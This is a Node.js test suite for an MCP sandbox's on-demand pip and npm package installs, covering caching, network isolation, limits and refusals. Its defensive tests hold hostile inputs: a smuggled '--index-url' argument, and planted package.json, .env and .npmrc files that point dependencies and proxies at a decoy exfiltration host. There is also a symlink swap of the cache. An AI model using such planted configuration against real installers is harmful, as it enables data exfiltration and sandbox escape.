// SPDX-License-Identifier: MIT
// Packages on demand through the real MCP endpoint with the official SDK
// client, against the real engine and runner images: pip installs from a
// package index this test serves (PyPI is not reachable here), npm packages
// come from the npm registry this machine reaches; a second run reuses the
// conversation's cache without asking the index; the warm session sees new
// packages and keeps its state; the run itself still has no network;
// unknown packages, sdists (no setup.py ever runs), bad specs, languages
// without an installer, the size cap, the time limit and the operator's off
// switch all give a clear result.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { createServer as createHttpsServer } from 'node:https';
import { createServer as createNetServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { describeRun } from './lib/sandbox.mjs';
import { SLOW, expectStatus, py, run, startWarm, stopWarm, waitPool } from './lib/warm.mjs';
import { bridgeGateway, serveIndex, wheel } from './lib/pyindex.mjs';
import { npmPackage, serveRegistry } from './lib/npmreg.mjs';

const T = 300_000 * SLOW;
const CA = '/etc/ssl/certs/ca-certificates.crt';

const dep = wheel('mcpsd-dep', '2.0', { 'mcpsd_dep/__init__.py': 'def helper():\n    return "dep-ok"\n' });
const demo = wheel('mcpsd-demo', '1.0', { 'mcpsd_demo/__init__.py': 'from mcpsd_dep import helper\nVALUE = 1\n' }, [
  'mcpsd-dep',
]);
const demo2 = wheel('mcpsd-demo', '2.0', { 'mcpsd_demo/__init__.py': 'from mcpsd_dep import helper\nVALUE = 42\n' }, [
  'mcpsd-dep',
]);
// 3 MB that a zip of STORED entries keeps at 3 MB.
const big = wheel('mcpsd-big', '1.0', { 'mcpsd_big/__init__.py': 'X = 1\n', 'mcpsd_big/blob.bin': randomBytes(3 << 20) });
const slow = wheel('mcpsd-slow', '1.0', { 'mcpsd_slow/__init__.py': 'X = 1\n' });
// Only a source distribution: installing it would run its setup.py.
const sdistOnly = { file: 'mcpsd-sdist-1.0.tar.gz', data: Buffer.from('not really a tarball') };

// Needs what the image has: pip must take numpy from the image, not ask for it.
const usesNumpy = wheel('mcpsd-usesnp', '1.0', { 'mcpsd_usesnp/__init__.py': 'import numpy\nV = numpy.__version__\n' }, [
  'numpy>=1.20',
]);
// A numpy scipy cannot work with: pip installs it and warns of the conflict.
const fakeNumpy = wheel('numpy', '99.0', { 'numpy/__init__.py': '__version__ = "99.0"\n' });

const PROJECTS = {
  'mcpsd-usesnp': [usesNumpy],
  numpy: [fakeNumpy],
  'mcpsd-demo': [demo, demo2],
  'mcpsd-dep': [dep],
  'mcpsd-big': [big],
  'mcpsd-slow': [slow],
  'mcpsd-sdist': [sdistOnly],
};

/** Requests for files (downloads) since a mark in the index's log. */
const downloads = (idx, from) => idx.requests.slice(from).filter((u) => u.startsWith('/files/'));

/** A refusal: no structured result, isError, the text matching re. */
function expectRefused(r, re) {
  assert.equal(r.sc, undefined, `refused before running: ${describeRun(r)}`);
  assert.equal(r.result.isError, true);
  assert.match(r.text, re);
}

/** Whether the npm registry answers this machine (the CI machines' does). */
function registryReachable() {
  try {
    execFileSync('npm', ['view', 'is-odd@3.0.1', 'version'], { stdio: 'pipe', timeout: 60_000 });
    return true;
  } catch {
    return false;
  }
}

describe('packages on demand', () => {
  let d, idx;
  before(async () => {
    idx = await serveIndex(PROJECTS);
    d = await startWarm({
      name: 'packages',
      env: {
        SANDBOX_PACKAGES_PIP_INDEX: idx.url,
        // Behind this machine's TLS-inspecting proxy the installers need
        // the host's bundle; elsewhere it is the same public roots.
        ...(existsSync(CA) ? { SANDBOX_PACKAGES_CA_FILE: CA } : {}),
      },
    });
  });
  after(async () => {
    await stopWarm(d);
    await idx?.close();
  });

  test('pip: installed on demand with its dependency, imported, then reused from the cache', { timeout: T }, async () => {
    const mark = idx.requests.length;
    const r = await py(d.client, 'pip', 'import mcpsd_demo\nprint(mcpsd_demo.VALUE, mcpsd_demo.helper())', {
      packages: ['mcpsd-demo'],
    });
    expectStatus(r, 'completed');
    assert.equal(r.sc.stdout, '42 dep-ok\n');
    assert.equal(r.sc.packages.manager, 'pip');
    assert.deepEqual(r.sc.packages.installed, ['mcpsd-demo']);
    assert.deepEqual(r.sc.packages.reused, []);
    assert.ok(r.sc.packages.install_ms > 0, JSON.stringify(r.sc.packages));
    assert.equal(r.sc.packages.cache, '/data/.mcp/packages/python');
    assert.match(r.text, /\npackages: installed 1 \(pip, \d+\.\d s\)/);
    assert.deepEqual(
      downloads(idx, mark).sort(),
      ['/files/mcpsd_demo-2.0-py3-none-any.whl', '/files/mcpsd_dep-2.0-py3-none-any.whl'],
      'the newest version and the dependency came from the index',
    );
    assert.ok(!(r.sc.files ?? []).some((f) => f.name.startsWith('.mcp/packages')), 'the cache is not listed as the run\'s files');

    const mark2 = idx.requests.length;
    const again = await py(d.client, 'pip', 'import mcpsd_demo\nprint(mcpsd_demo.VALUE)', { packages: ['mcpsd-demo'] });
    expectStatus(again, 'completed');
    assert.equal(again.sc.stdout, '42\n');
    assert.deepEqual(again.sc.packages.reused, ['mcpsd-demo']);
    assert.deepEqual(again.sc.packages.installed, []);
    assert.equal(again.sc.packages.install_ms, undefined);
    assert.deepEqual(idx.requests.slice(mark2), [], 'the second run asked the index nothing');
    assert.match(again.text, /\npackages: reused 1 from the cache/);

    // Without packages, one-off (another memory limit): the cache is on the path.
    const oneoff = await py(d.client, 'pip', 'import mcpsd_demo, sys\nprint(mcpsd_demo.VALUE, mcpsd_demo.__file__)', {
      memory_mb: 200,
    });
    expectStatus(oneoff, 'completed');
    assert.equal(oneoff.sc.session.state, 'none');
    assert.equal(oneoff.sc.stdout, '42 /data/.mcp/packages/python/site/mcpsd_demo/__init__.py\n');

    // A pin that differs from the cache installs that version.
    const pinned = await py(d.client, 'pip', 'import mcpsd_demo\nprint(mcpsd_demo.VALUE)', {
      packages: ['mcpsd-demo==1.0'],
      session: 'new',
    });
    expectStatus(pinned, 'completed');
    assert.deepEqual(pinned.sc.packages.installed, ['mcpsd-demo==1.0']);
    assert.equal(pinned.sc.stdout, '1\n');

    // Another conversation has a cache of its own.
    const other = await py(d.client, 'pip-other', 'import mcpsd_demo', {});
    expectStatus(other, 'failed');
    assert.match(other.sc.stderr, /ModuleNotFoundError: No module named 'mcpsd_demo'/);
  });

  test('a one-off run from the pool (its kernel ended, a program of its own) finds the cache and its inputs', { timeout: T }, async () => {
    const p = await startWarm({
      name: 'packages-pool',
      pool: true,
      env: {
        SANDBOX_PACKAGES_PIP_INDEX: idx.url,
        ...(existsSync(CA) ? { SANDBOX_PACKAGES_CA_FILE: CA } : {}),
      },
    });
    try {
      const first = await py(p.client, 'pip-pool', 'print(1)', { packages: ['mcpsd-demo'] });
      expectStatus(first, 'completed');
      await waitPool(p);
      const code = 'import mcpsd_demo, sys\nprint(mcpsd_demo.VALUE, mcpsd_demo.__file__, inputs["n"], __name__)';
      const once = await py(p.client, 'pip-pool', code, { memory_mb: 200, inputs: { n: 7 } });
      expectStatus(once, 'completed');
      assert.equal(once.sc.session.from_pool, true, JSON.stringify(once.sc.session));
      assert.equal(once.sc.stdout, '42 /data/.mcp/packages/python/site/mcpsd_demo/__init__.py 7 __main__\n');
      await waitPool(p);
      const plain = await py(p.client, 'pip-pool', 'import mcpsd_demo\nprint(mcpsd_demo.VALUE)', { memory_mb: 200 });
      expectStatus(plain, 'completed');
      assert.equal(plain.sc.session.from_pool, true);
      assert.equal(plain.sc.stdout, '42\n', 'without inputs too');
    } finally {
      await stopWarm(p);
    }
  });

  test('what the image has is neither downloaded nor installed; conflicts pip leaves reach the model', { timeout: T }, async () => {
    const mark = idx.requests.length;
    const r = await py(d.client, 'uses-np', 'import mcpsd_usesnp\nprint(mcpsd_usesnp.V)', {
      packages: ['mcpsd-usesnp', 'pandas'],
    });
    expectStatus(r, 'completed');
    // 1.x on Debian 12's image, 2.x on Debian 13's; never the index's 99.0.
    assert.match(r.sc.stdout, /^[12]\.\d+\.\d+\n$/, 'the image\'s numpy');
    assert.deepEqual(r.sc.packages.installed, ['mcpsd-usesnp']);
    assert.deepEqual(r.sc.packages.preinstalled, ['pandas']);
    assert.match(r.text, /\npackages: installed 1 \(pip, [\d.]+ s\); 1 preinstalled in the image/);
    assert.ok(!idx.requests.slice(mark).some((u) => /numpy|pandas/.test(u)), `the index was not asked for numpy or pandas: ${idx.requests.slice(mark)}`);

    const only = await py(d.client, 'uses-np', 'import pandas\nprint(pandas.__version__)', { packages: ['pandas', 'numpy'] });
    expectStatus(only, 'completed');
    assert.deepEqual(only.sc.packages.preinstalled, ['pandas', 'numpy']);
    assert.equal(only.sc.packages.install_ms, undefined, 'no installer ran');

    const c = await py(d.client, 'conflict', 'print("ran")', { packages: ['numpy==99.0'] });
    expectStatus(c, 'completed');
    assert.deepEqual(c.sc.packages.installed, ['numpy==99.0']);
    assert.ok(
      c.sc.packages.warnings?.some((w) => /requires numpy.*but you have numpy 99\.0/.test(w)),
      JSON.stringify(c.sc.packages),
    );
    assert.match(c.text, /pip warns: .*requires numpy/);
  });

  test('the warm session sees packages installed after it started and keeps its state', { timeout: T }, async () => {
    const first = await py(d.client, 'warm-pip', 'x = 41\nprint("set")');
    expectStatus(first, 'completed');
    assert.equal(first.sc.session.stateful, true);
    const r = await py(d.client, 'warm-pip', 'import mcpsd_dep\nprint(x + 1, mcpsd_dep.helper())', {
      packages: ['mcpsd-dep'],
    });
    expectStatus(r, 'completed');
    assert.equal(r.sc.session.state, 'continued', JSON.stringify(r.sc.session));
    assert.equal(r.sc.stdout, '42 dep-ok\n');
    assert.deepEqual(r.sc.packages.installed, ['mcpsd-dep']);
  });

  test('the run itself has no network, only the installer had', { timeout: T }, async () => {
    const code = [
      'import socket',
      'try:',
      `    socket.create_connection((${JSON.stringify(idx.host)}, ${idx.port}), timeout=3)`,
      '    print("connected")',
      'except OSError as e:',
      '    print("no network:", type(e).__name__)',
    ].join('\n');
    const r = await py(d.client, 'pip-net', code, { packages: ['mcpsd-dep'] });
    expectStatus(r, 'completed');
    assert.deepEqual(r.sc.packages.installed, ['mcpsd-dep'], 'the installer reached the index');
    assert.match(r.sc.stdout, /^no network: /, describeRun(r));
  });

  test('an unknown package, a missing version and an sdist: failed, the installer\'s words, the code not run', { timeout: T }, async () => {
    const r = await py(d.client, 'pip-bad', 'print("RAN")', { packages: ['mcpsd-no-such-thing'] });
    expectStatus(r, 'failed');
    assert.equal(r.sc.exit_code, null);
    assert.equal(r.sc.packages.failed, true);
    assert.doesNotMatch(r.sc.stdout, /RAN/);
    assert.match(r.sc.message, /The packages could not be installed, so the code did not run/);
    assert.match(r.sc.message, /ERROR: Could not find a version that satisfies the requirement mcpsd-no-such-thing/);
    assert.match(r.sc.stderr, /No matching distribution found for mcpsd-no-such-thing/);
    assert.match(r.text, /status: failed while installing packages; the code did not run/);
    assert.equal(r.result.isError, true);

    const v = await py(d.client, 'pip-bad', 'print("RAN")', { packages: ['mcpsd-demo==9.9'] });
    expectStatus(v, 'failed');
    assert.match(v.sc.message, /from versions: 1\.0, 2\.0/, 'the versions there are reach the model');

    const s = await py(d.client, 'pip-bad', 'print("RAN")', { packages: ['mcpsd-sdist'] });
    expectStatus(s, 'failed');
    assert.match(s.sc.message, /mcpsd-sdist/);
    assert.doesNotMatch(s.sc.stdout + s.sc.stderr, /setup\.py|Building wheel/, 'no source distribution is built');

    // The conversation is still usable, its earlier packages kept.
    const ok = await py(d.client, 'pip-bad', 'print("fine")');
    expectStatus(ok, 'completed');
  });

  test('bad specs and languages without an installer are refused before anything runs', { timeout: T }, async () => {
    const mark = idx.requests.length;
    for (const spec of ['git+https://github.com/x/y', '--index-url=http://evil/simple', 'pkg; os_name=="nt"', '../x', 'a b']) {
      const r = await py(d.client, 'pip-spec', 'print(1)', { packages: [spec] });
      expectRefused(r, /is not a name with an optional version|must start with a distribution name/);
      assert.match(r.text, /e\.g\. "pandas"/);
    }
    const npmBad = await run(d.client, 'npm-spec', 'typescript', 'console.log(1)', { packages: ['user/repo'] });
    expectRefused(npmBad, /npm package 'user\/repo' is not a name with an optional version/);
    const sh = await run(d.client, 'sh-pkg', 'bash', 'echo 1', { packages: ['jq'] });
    expectRefused(sh, /the bash runner cannot install packages .*languages that can: .*python \(pip\).*typescript \(npm\)/);
    const twice = await py(d.client, 'pip-spec', 'print(1)', { packages: ['a', 'a'] });
    expectRefused(twice, /listed twice/);
    assert.deepEqual(idx.requests.slice(mark), [], 'nothing reached the index');
  });

  test('npm: installed from the registry with its dependency, imported, then reused', { timeout: T }, async (t) => {
    if (!registryReachable()) {
      t.skip('the npm registry does not answer this machine');
      return;
    }
    const code = 'import isOdd from "is-odd";\nconsole.log(isOdd(3), isOdd(4));';
    const r = await run(d.client, 'npm', 'typescript', code, { packages: ['is-odd@3.0.1'] });
    expectStatus(r, 'completed');
    assert.equal(r.sc.stdout, 'true false\n');
    assert.equal(r.sc.packages.manager, 'npm');
    assert.deepEqual(r.sc.packages.installed, ['is-odd@3.0.1']);
    assert.equal(r.sc.packages.cache, '/data/.mcp/packages/node/node_modules');

    const again = await run(d.client, 'npm', 'typescript', code, { packages: ['is-odd@3.0.1'] });
    expectStatus(again, 'completed');
    assert.deepEqual(again.sc.packages.reused, ['is-odd@3.0.1']);
    assert.equal(again.sc.packages.install_ms, undefined, 'no installer ran');

    // Without packages, in a fresh box: the cache is found from the code.
    const plain = await run(d.client, 'npm', 'typescript', code, { memory_mb: 200 });
    expectStatus(plain, 'completed');
    assert.equal(plain.sc.stdout, 'true false\n');

    const missing = await run(d.client, 'npm', 'typescript', 'console.log("RAN")', {
      packages: ['mcpsd-no-such-package-zz9'],
    });
    expectStatus(missing, 'failed');
    assert.equal(missing.sc.packages.failed, true);
    assert.match(missing.sc.message, /bun add exited with code \d+: error: .*mcpsd-no-such-package-zz9/);
    assert.doesNotMatch(missing.sc.stdout, /RAN/);
  });
});

describe('npm: nothing the conversation wrote configures the installer', () => {
  // Code of a conversation (no network) plants configuration where the
  // installer (with network) used to work; the next call with packages
  // must ask the registry for those packages and nothing else, and the
  // decoy (any other host: an exfiltration URL, the bridge, the host) for
  // nothing at all.
  let d, reg;
  before(async () => {
    reg = await serveRegistry([
      npmPackage('mcpsd-good', '1.0.0', 'good-1'),
      npmPackage('mcpsd-other', '2.0.0', 'other-2'),
    ]);
    d = await startWarm({ name: 'packages-npm', env: { SANDBOX_PACKAGES_NPM_REGISTRY: reg.url } });
  });
  after(async () => {
    await stopWarm(d);
    await reg?.close();
  });

  /** Python code that writes files ({ name: text }) under dir of /data. */
  const plant = (dir, files) =>
    [
      'import os, json',
      `d = ${JSON.stringify(dir)}`,
      'os.makedirs(d, exist_ok=True)',
      `for n, t in json.loads(${JSON.stringify(JSON.stringify(files))}).items():`,
      '    open(os.path.join(d, n), "w").write(t)',
      'print("planted")',
    ].join('\n');
  const NODE = '/data/.mcp/packages/node';
  const useGood = 'import good from "mcpsd-good";\nconsole.log(good.value);';

  /** Only the registry, only for the packages named: no foreign request. */
  function onlyAsked(mark, names) {
    const asked = reg.requests.slice(mark);
    const allowed = new RegExp(`^GET /(?:-/tarballs/)?(?:${names.join('|')})(?:$|[-/?])`);
    assert.deepEqual(reg.decoy.requests, [], 'the decoy was asked nothing');
    assert.ok(asked.length > 0, 'the registry was asked');
    assert.deepEqual(asked.filter((r) => !allowed.test(r)), [], `only ${names} were asked for: ${asked}`);
  }

  async function attack(conv, files) {
    const p = await py(d.client, conv, plant(NODE, files));
    expectStatus(p, 'completed');
    const mark = reg.requests.length;
    const r = await run(d.client, conv, 'typescript', useGood, { packages: ['mcpsd-good'] });
    assert.deepEqual(reg.decoy.requests, [], `the installer asked the decoy nothing: ${describeRun(r)}`);
    expectStatus(r, 'completed');
    assert.equal(r.sc.stdout, 'good-1\n');
    assert.deepEqual(r.sc.packages.installed, ['mcpsd-good']);
    onlyAsked(mark, ['mcpsd-good']);
    return r;
  }

  test('a planted package.json with a URL dependency is not installed', { timeout: T }, async () => {
    await attack('npm-manifest', {
      'package.json': JSON.stringify({
        dependencies: {
          exfil: `${reg.decoy.url}/secret-token.tgz`,
          alias: `npm:exfil@${reg.decoy.url}/alias.tgz`,
          'mcpsd-other': 'file:../../../sandbox',
        },
        optionalDependencies: { exfil2: `${reg.decoy.url}/optional.tgz` },
      }),
    });
    const ls = await py(d.client, 'npm-manifest', `import os\nprint(sorted(os.listdir(${JSON.stringify(NODE + '/node_modules')})))`);
    expectStatus(ls, 'completed');
    assert.doesNotMatch(ls.sc.stdout, /exfil|alias|bait/, 'nothing from the planted manifest is in the cache');
  });

  test('a planted .env, .npmrc and bunfig.toml set no proxy or registry', { timeout: T }, async () => {
    const proxy = reg.decoy.url;
    const env = `HTTP_PROXY=${proxy}\nHTTPS_PROXY=${proxy}\nhttp_proxy=${proxy}\nBUN_CONFIG_REGISTRY=${proxy}/\nNPM_CONFIG_REGISTRY=${proxy}/\n`;
    await attack('npm-env', {
      '.env': env,
      '.env.local': env,
      '.env.production': env,
      '.npmrc': `registry=${proxy}/\nproxy=${proxy}\nhttps-proxy=${proxy}\n`,
      'bunfig.toml': `[install]\nregistry = "${proxy}/"\n`,
    });
  });

  test('a cache directory replaced by a link to planted configuration is not followed', { timeout: T }, async () => {
    const code = [
      'import os, json, shutil',
      `shutil.rmtree(${JSON.stringify(NODE)}, ignore_errors=True)`,
      'os.makedirs("/data/elsewhere/node_modules", exist_ok=True)',
      `json.dump({"dependencies": {"exfil": ${JSON.stringify(reg.decoy.url + '/linked.tgz')}}}, open("/data/elsewhere/package.json", "w"))`,
      `open("/data/elsewhere/.env", "w").write("HTTP_PROXY=${reg.decoy.url}\\n")`,
      'os.makedirs("/data/.mcp/packages", exist_ok=True)',
      `os.symlink("/data/elsewhere", ${JSON.stringify(NODE)})`,
      'print("planted")',
    ].join('\n');
    const p = await py(d.client, 'npm-link', code);
    expectStatus(p, 'completed');
    const mark = reg.requests.length;
    const r = await run(d.client, 'npm-link', 'typescript', useGood, { packages: ['mcpsd-good'] });
    assert.deepEqual(reg.decoy.requests, [], `the installer asked the decoy nothing: ${describeRun(r)}`);
    expectStatus(r, 'completed');
    assert.equal(r.sc.stdout, 'good-1\n');
    onlyAsked(mark, ['mcpsd-good']);
    const after = await py(d.client, 'npm-link', `import os\nprint(os.path.islink(${JSON.stringify(NODE)}), sorted(os.listdir("/data/elsewhere")))`);
    expectStatus(after, 'completed');
    assert.equal(after.sc.stdout, "False ['.env', 'node_modules', 'package.json']\n", 'the link was replaced, its target left alone');
  });

  test('packages installed earlier stay usable; a tarball spec is refused before anything runs', { timeout: T }, async () => {
    const first = await run(d.client, 'npm-keep', 'typescript', useGood, { packages: ['mcpsd-good'] });
    expectStatus(first, 'completed');
    const mark = reg.requests.length;
    const code = 'import good from "mcpsd-good";\nimport other from "mcpsd-other";\nconsole.log(good.value, other.value);';
    const r = await run(d.client, 'npm-keep', 'typescript', code, { packages: ['mcpsd-other'] });
    expectStatus(r, 'completed');
    assert.equal(r.sc.stdout, 'good-1 other-2\n');
    onlyAsked(mark, ['mcpsd-good', 'mcpsd-other']);

    const m2 = reg.requests.length;
    for (const spec of ['x.tgz', `${reg.decoy.url}/x.tgz`, 'mcpsd-good@x.tgz', 'file:../x']) {
      const bad = await run(d.client, 'npm-keep', 'typescript', 'console.log(1)', { packages: [spec] });
      expectRefused(bad, /npm package .* (names a tarball|the version names a tarball|is not a name with an optional version|must start with a package name)/);
    }
    assert.deepEqual(reg.requests.slice(m2), [], 'refused specs reach no registry');
    assert.deepEqual(reg.decoy.requests, [], 'nor the decoy');
    const runs = join(d.root, 'runs');
    const stages = readdirSync(runs).filter((e) => existsSync(join(runs, e, 'stage')));
    assert.deepEqual(stages, [], 'no staging directory is left after the installations');
  });
});

describe('packages: an index the installer cannot use is named as such, with the setting', () => {
  // A registry with a certificate the box does not trust (self-signed),
  // and an index on a port where nothing listens: the message says what
  // failed and which setting fixes it, not "Check the names and versions".
  let d, tls, dir, closedPort;
  before(async () => {
    const host = bridgeGateway();
    dir = mkdtempSync(join(tmpdir(), 'mcpsd-tls-'));
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', `/CN=${host}`,
      '-keyout', join(dir, 'k.pem'), '-out', join(dir, 'c.pem')], { stdio: 'pipe' });
    tls = createHttpsServer({ key: readFileSync(join(dir, 'k.pem')), cert: readFileSync(join(dir, 'c.pem')) }, (req, res) =>
      res.writeHead(404).end());
    await new Promise((resolve) => tls.listen(0, host, resolve));
    // A port that was free a moment ago: connections to it are refused.
    const probe = createNetServer();
    await new Promise((resolve) => probe.listen(0, host, resolve));
    closedPort = probe.address().port;
    await new Promise((resolve) => probe.close(resolve));
    d = await startWarm({
      name: 'packages-net',
      env: {
        SANDBOX_PACKAGES_NPM_REGISTRY: `https://${host}:${tls.address().port}/`,
        SANDBOX_PACKAGES_PIP_INDEX: `http://${host}:${closedPort}/simple`,
        SANDBOX_PACKAGES_TIMEOUT_SECONDS: '240',
      },
    });
  });
  after(async () => {
    await stopWarm(d);
    tls?.closeAllConnections?.();
    await new Promise((resolve) => (tls ? tls.close(resolve) : resolve()));
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  test('an untrusted certificate names SANDBOX_PACKAGES_CA_FILE', { timeout: T }, async () => {
    const r = await run(d.client, 'net-cert', 'typescript', 'console.log("RAN")', { packages: ['mcpsd-good'] });
    expectStatus(r, 'failed');
    assert.match(r.sc.message, /bun add could not verify the TLS certificate of https:\/\/[\d.]+:\d+\/ \(\w*SELF_SIGNED\w*/);
    assert.match(r.sc.message, /set SANDBOX_PACKAGES_CA_FILE to a CA bundle/);
    assert.doesNotMatch(r.sc.message, /Check the names and versions/);
  });

  test('an index nothing answers on names the index setting and the network', { timeout: T }, async () => {
    const r = await py(d.client, 'net-refused', 'print("RAN")', { packages: ['mcpsd-demo'] });
    expectStatus(r, 'failed');
    assert.match(r.sc.message, new RegExp(`pip could not reach http://[\\d.]+:${closedPort}/simple \\(Connection refused`));
    assert.match(r.sc.message, /check SANDBOX_PACKAGES_PIP_INDEX and that the installers' Docker network SANDBOX_PACKAGES_NETWORK \(bridge\) reaches it/);
    assert.doesNotMatch(r.sc.message, /Check the names and versions/);
  });
});

describe('packages: the operator\'s limits', () => {
  let d, idx;
  before(async () => {
    idx = await serveIndex(PROJECTS, { hang: ['mcpsd-slow'] });
    d = await startWarm({
      name: 'packages-limits',
      env: {
        SANDBOX_PACKAGES_PIP_INDEX: idx.url,
        SANDBOX_PACKAGES_MAX_MB: '2',
        SANDBOX_PACKAGES_TIMEOUT_SECONDS: '8',
      },
    });
  });
  after(async () => {
    await stopWarm(d);
    await idx?.close();
  });

  test('past SANDBOX_PACKAGES_MAX_MB the cache is emptied and the call fails saying so', { timeout: T }, async () => {
    const small = await py(d.client, 'cap', 'import mcpsd_dep; print("ok")', { packages: ['mcpsd-dep'] });
    expectStatus(small, 'completed');
    const r = await py(d.client, 'cap', 'print("RAN")', { packages: ['mcpsd-big'] });
    expectStatus(r, 'failed');
    assert.match(r.sc.message, /the package cache would take 3 MB, more than the 2 MB allowed \(SANDBOX_PACKAGES_MAX_MB\); it was emptied/);
    const after = await py(d.client, 'cap', 'import os\nprint(os.path.exists("/data/.mcp/packages/python"))');
    expectStatus(after, 'completed');
    assert.equal(after.sc.stdout, 'False\n', 'the cache was emptied');
  });

  test('an installation past SANDBOX_PACKAGES_TIMEOUT_SECONDS is stopped and says so', { timeout: T }, async () => {
    const t0 = Date.now();
    const r = await py(d.client, 'slow', 'print("RAN")', { packages: ['mcpsd-slow'] });
    expectStatus(r, 'failed');
    assert.match(r.sc.message, /took longer than 8 s \(SANDBOX_PACKAGES_TIMEOUT_SECONDS\)/);
    assert.ok(Date.now() - t0 < 60_000 * SLOW, `ended in ${Date.now() - t0} ms`);
  });
});

describe('packages turned off', () => {
  let d;
  before(async () => {
    d = await startWarm({ name: 'packages-off', env: { SANDBOX_PACKAGES: 'false' } });
  });
  after(() => stopWarm(d));

  test('a run with packages is refused with the setting named; the tool says so too', { timeout: T }, async () => {
    const r = await py(d.client, 'off', 'print(1)', { packages: ['pandas'] });
    expectRefused(r, /packages are turned off on this server \(SANDBOX_PACKAGES=false\)/);
    const tools = await d.client.listTools();
    const rc = tools.tools.find((x) => x.name === 'run_code');
    assert.match(rc.inputSchema.properties.packages.description, /turned off/);
  });
});
